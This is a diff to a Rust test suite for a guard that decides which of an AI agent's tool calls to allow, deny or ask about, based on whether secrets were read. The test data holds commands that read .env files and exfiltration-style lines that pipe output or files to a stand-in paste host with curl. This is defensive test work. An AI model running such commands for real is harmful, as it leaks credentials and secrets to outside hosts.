@@ -89,6 +89,11 @@ fn what_was_read_decides_what_may_be_sent() {
         ("Bash", r#"{"command":"env"}"#, Deny),
         ("Bash", r#"{"command":"curl https://internal.example/x"}"#, Deny),
         ("Bash", r#"{"command":"ls -la; git status"}"#, Allow),
+        ("Bash", r#"{"command":"ed .env <<< ,p"}"#, Deny),
+        ("Bash", r#"{"command":"vim -es '+%p' '+q' .env"}"#, Deny),
+        ("Bash", r#"{"command":"nano .env"}"#, Deny),
+        ("Bash", r#"{"command":"sqlite3 .env .dump"}"#, Deny),
+        ("Bash", r#"{"command":"touch .env"}"#, Allow),
         ("Bash", r#"{"command":"echo x > .env"}"#, Allow),
         ("Edit", r#"{"file_path":"/w/.env","old_string":"a","new_string":"b"}"#, Deny),
         ("mcp__crm__find", r#"{"q":"x"}"#, Deny),
@@ -113,13 +118,16 @@ fn what_was_read_decides_what_may_be_sent() {
 /// Alone no program asks that only may read and only may send: what it may have read counts afterwards.
 #[test]
 fn programs_that_run_are_doubted_afterwards() {
-    for line in ["./build.sh", "npm test", "make all", "python3 x.py"] {
+    for line in ["./build.sh", "npm test", "make all", "make", "make -j4", "pytest -v", "python3 x.py"] {
         let mut session = Session::new(FLOW);
         assert_eq!((session.line(line), session.line(line)), (Allow, Allow), "{line}");
         assert_eq!(session.line("curl https://a.paste.example/"), Ask, "{line}");
         session.line("cat .env");
         assert_eq!(session.line(line), Ask, "{line}");
     }
+    let mut session = Session::new(FLOW);
+    session.line("make --version; npm --help");
+    assert_eq!(session.line("curl https://a.paste.example/"), Allow);
     assert_eq!(Session::new(FLOW).line("./x.sh | curl -d @- https://a.paste.example/"), Ask);
     assert_eq!(Session::new(FLOW).line("curl -d @$F $URL"), Ask);
     assert_eq!(Session::new(FLOW).call("mcp__other__post", r#"{"text":"x"}"#), Allow);
